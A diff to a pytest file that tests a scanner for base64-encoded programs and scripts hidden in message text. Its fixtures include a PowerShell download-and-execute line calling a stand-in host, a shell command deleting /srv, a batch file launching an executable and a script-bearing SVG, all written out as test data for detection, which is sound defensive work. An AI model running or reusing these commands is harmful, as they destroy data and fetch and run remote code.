@@ -7,6 +7,7 @@ import time
 
 import pytest
 
+from rules.reading import sweep
 from rules.reading.budget import LimitExceeded
 from rules.reading.sweep import MAX_DECODED, MAX_ENTITIES, MAX_GROUPS, MIN_RUN, entities_in, runs_in
 
@@ -78,6 +79,38 @@ def test_what_is_no_sought_file_is_passed_over(text):
 def test_chance_makes_no_program():
     """Two letters alone are MZ once in 65,536 times; a program has zeros near its front."""
     assert octets_of(base64.encodebytes(b"MZ" + bytes(range(1, 200)))) == []
+
+
+BATCH = b'@echo off\r\nstart "" %temp%\\a.exe\r\n' + b"rem words and more words\r\n" * 3
+WRITTEN = {
+    "batch": BATCH,
+    "a shell": b"#!/bin/sh\nrm -r /srv/*; exit 0; echo\n",
+    "UTF-8 with its mark": b"\xef\xbb\xbf" + BATCH,
+    "UTF-16 with its mark": ("\ufeff" + BATCH.decode()).encode("utf-16-le"),
+    "as PowerShell takes it": "IEX (New-Object Net.WebClient).DownloadString('http://a.example')".encode("utf-16-le"),
+    "a page": b"<!DOCTYPE html><html><body>Dear colleague, here is the form.</body></html>",
+    "a picture": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
+    "a message": b"From: ann@city.example\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nwords",
+    "a shortcut": b"[InternetShortcut]\r\nURL=file://files.example/a.exe\r\n",
+}
+
+
+@pytest.mark.parametrize("what", WRITTEN)
+def test_what_runs_or_is_shown_although_it_is_written_is_found(what):
+    text = b"Dear Bob, decode this:\r\n\r\n" + base64.encodebytes(WRITTEN[what]) + b"\r\nAnn, with words\r\n"
+    assert octets_of(text) == [WRITTEN[what]]
+
+
+def test_what_an_address_of_a_page_holds_is_known_elsewhere():
+    assert octets_of(b'<script src="data:text/javascript;base64,' + base64.b64encode(BATCH) + b'">') == []
+
+
+def test_as_many_runs_that_decode_to_text_and_one_more(monkeypatch):
+    monkeypatch.setattr(sweep, "MAX_WRITTEN", 20)
+    each = base64.b64encode(b"A letter to the city about trees. ") + b" .\n"
+    assert octets_of(each * 20) == []
+    with pytest.raises(LimitExceeded, match="more than 20 runs of base64 in one text that decode to text"):
+        octets_of(each * 21)
 
 
 def test_as_many_runs_as_are_decoded_and_one_more():
